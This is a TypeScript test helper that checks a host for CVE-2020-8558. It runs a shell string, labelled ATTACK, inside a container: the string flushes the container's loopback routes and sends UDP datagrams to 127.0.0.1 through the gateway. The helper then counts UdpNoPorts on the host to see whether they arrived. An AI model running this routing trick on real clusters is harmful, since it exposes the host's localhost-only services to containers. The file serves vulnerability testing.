/**
 * What CVE-2020-8558 is about: a container with NET_ADMIN sends a datagram to 127.0.0.1 by way of its gateway. The host's
 * kernel counts it where it is delivered, also when nobody listens there.
 */
import type { Namespace } from './namespace.ts'

const PORT = 9998

/** In the container nothing is local any more. */
const ATTACK = `
  ip link set lo down; ip route flush table local 127.0.0.0/8; ip route flush table local 127.0.0.1/32
  ip route replace 127.0.0.1 via "$1"
  for i in 1 2 3; do echo x > /dev/udp/127.0.0.1/$2; done
  echo x > /dev/udp/$1/$2`

/** Whether the host takes what the container sends to 127.0.0.1. */
export function reachesLoopback(container: Namespace, host: Namespace, gateway: string): boolean {
  const before = deliveries(host)
  const done = container.run('bash', ['-e', '-c', ATTACK, 'attack', gateway, String(PORT)])
  if (done.status !== 0) throw new Error(`attack: ${done.stderr}`)
  const deadline = Date.now() + 30_000
  // The last one, to the gateway itself, arrives in any case, and after the others.
  for (let count = 0; count === 0; count = deliveries(host) - before) {
    if (Date.now() > deadline) throw new Error('attack: not even the gateway is reached')
    Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 5)
  }
  return deliveries(host) - before > 1
}

/** Datagrams to ports without a listener, which are `UdpNoPorts`. */
function deliveries(host: Namespace): number {
  const lines = host
    .run('cat', ['/proc/net/snmp'])
    .stdout.split('\n')
    .filter(line => line.startsWith('Udp: '))
  const [names = '', values = ''] = lines
  return Number(values.split(' ')[names.split(' ').indexOf('NoPorts')])
}
